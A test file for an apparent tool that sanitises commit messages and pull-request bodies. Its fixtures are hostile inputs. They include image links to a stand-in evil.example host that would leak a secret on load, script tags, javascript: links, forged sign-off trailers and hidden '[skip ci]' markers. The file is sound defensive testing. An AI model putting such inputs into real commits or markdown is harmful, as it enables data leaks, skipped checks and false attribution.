import { describe, expect, it } from "vitest";
import { commitMessage } from "./commit-message.ts";
import { neutralMarkdown } from "./neutral-markdown.ts";
import { pullRequestBody, pullRequestTitle } from "./pull-request-body.ts";

describe("commitMessage", () => {
  it.each([
    ["Fix the parser", "It failed on empty input.", "Fix the parser\n\nIt failed on empty input.\n"],
    ["Fix #12 [skip ci]", "closes #12, GH-3, fixes o/r#4", "Fix # 12\n\ncloses # 12, GH 3, fixes o/r# 4\n"],
    ["Ask @ada", "mail ada@example.org, @team/x", "Ask @ ada\n\nmail ada@example.org, @ team/x\n"],
    ["a\nb\tc", "one\r\ntwo", "a b c\n\none\ntwo\n"],
    ["", "", "Change by Slipway\n"],
    ["x", "why\n\nCo-authored-by: Eve <e@e>\nSigned-off-by: Eve <e@e>\nFixes: #1\nskip-checks: true", "x\n\nwhy\n"],
    ["x [ci-skip][ Skip  CI ]", "[no ci] [skip actions] y", "x\n\ny\n"],
    ["x [skip [skip ci]ci]", "[[no ci]no ci]", "x\n"],
    ["a\u202Eb\u200B\u0007", "\u{E0041}c", "ab\n\nc\n"],
    [
      "x",
      "closes https://github.com/o/r/issues/12 see https://example.org/a",
      "x\n\ncloses https: //github.com/o/r/issues/12 see https://example.org/a\n",
    ],
  ])("neutralises %j and %j (G19)", (title, body, message) => {
    expect(commitMessage({ title, body })).toBe(message);
  });

  it("is bounded, and its only trailer is ours (G19)", () => {
    const message = commitMessage({
      title: "t".repeat(500),
      body: "b".repeat(1_000_000),
      taskUrl: "https://s.example/t/1\nSigned-off-by: x",
    });
    const [title = "", body = "", trailer] = message.trimEnd().split("\n\n");
    expect([title.length, body.length, trailer]).toEqual([72, 8_000, "Slipway-Task: https://s.example/t/1Signed-off-by:x"]);
  });

  it("does not cut a character in two", () => {
    expect(commitMessage({ title: "😀".repeat(80), body: "" }).isWellFormed()).toBe(true);
  });
});

describe("neutralMarkdown", () => {
  it.each([
    ["plain text stays", "# Title\n\n- a **b** _c_\n1. d", "# Title\n\n- a **b** _c_\n1. d"],
    ["nobody is mentioned", "ask @ada and @org/team", "ask @<!-- -->ada and @<!-- -->org/team"],
    ["no issue is referenced", "closes #12, GH-7", "closes #<!-- -->12, GH<!-- -->-7"],
    ["no image is loaded", "![a](https://evil.example/x.png?d=secret) ![b][ref]\n\n[ref]: https://evil.example/y", "a b"],
    ["no HTML is passed", '<img src="https://evil.example/x"><script>a</script>', '&lt;img src="evil.example>&lt;script>a&lt;/script>'],
    ["links show their host", "[docs](https://evil.example/a?b=c) and https://evil.example/d", "docs (evil.example) and evil.example"],
    ["links that do not go to the web vanish", "[x](javascript:alert(1)) [y](javascript:z)", "[x] (javascript:alert(1)) y"],
    ["links with titles too", '[x](<https://evil.example/a> "title") ![a](b(c))', "x (evil.example) a(b(c))"],
    ["code in fences stays as it is", "```ts\n@decorator() <T>\n```", "```text\n@decorator() <T>\n```"],
    ["a fence cannot be broken out of", "~~~\na\n```\n<b>\n~~~\n<i>", "````text\na\n```\n<b>\n````\n\n&lt;i>"],
    ["an indented fence is no fence", "- x\n  ```\n@ada", "- x\n  ```\n@<!-- -->ada"],
    ["harmless code spans stay", "run `npm test -- --run` now", "run `npm test -- --run` now"],
    ["others become prose", "`@ada` and `<b>`", "@<!-- -->ada and &lt;b>"],
    ["entities stay text", "&#64;ada &lt;", "&amp;#<!-- -->64;ada &amp;lt;"],
  ])("%s (A03)", (_name, markdown, neutral) => {
    expect(neutralMarkdown(markdown)).toBe(neutral);
  });
});

it.each(["![", "[", "`", "`a", "[a](", "@a", " ", "a-", "https://a/", "[skip", "\n", "a://b:", "<!--"])(
  "a long run of %j is neutralised in a moment",
  (piece) => {
    const text = piece.repeat(20_000 / piece.length);
    const before = performance.now();
    pullRequestBody({ summary: text, checks: [], newlyFailing: [], notVerified: [], warnings: [] });
    commitMessage({ title: text, body: text });
    expect(performance.now() - before).toBeLessThan(1_000);
  },
);

describe("pullRequestBody", () => {
  it("puts checks, warnings and the task under a neutral summary", () => {
    expect(
      pullRequestBody({
        summary: "Fixes @x <b>",
        checks: [{ name: "npm test", outcome: "passed" }],
        newlyFailing: ["a.test.ts > greets @ada"],
        notVerified: ["Windows, see #12"],
        warnings: [{ path: "a`@b`.ts", message: "A symbolic link" }],
        taskUrl: "https://slipway.example/tasks/1",
      }),
    ).toBe(
      "Fixes @<!-- -->x &lt;b>\n\n### Checks run by Slipway\n- npm test: passed\n\n### Newly failing tests\n- a.test.ts > greets @<!-- -->ada\n\n### Not verified\n- Windows, see #<!-- -->12\n\n### Look twice\n- `a__b_.ts`: A symbolic link\n\n---\nMade with [Slipway](https://slipway.example/tasks/1).\n",
    );
  });

  it("stays under the forge's limit", () => {
    const many = Array.from({ length: 500 }, (_, index) => ({ path: `${"p".repeat(300)}${index}`, message: "m".repeat(1_000) }));
    const names = Array.from({ length: 500 }, () => "<@#1".repeat(200));
    const checks = names.map((name) => ({ name, outcome: name }));
    const body = (summary: string) => pullRequestBody({ summary, checks, newlyFailing: names, notVerified: names, warnings: many });
    expect(body("s ".repeat(100_000)).length).toBeLessThan(65_536);
    expect(body("<@a".repeat(100_000)).length).toBeLessThan(65_536);
  });
});

it("a title mentions nobody and closes nothing", () => {
  expect(pullRequestTitle("Fix #12 for @ada\n<b> [skip ci]")).toBe("Fix # 12 for @ ada b");
});
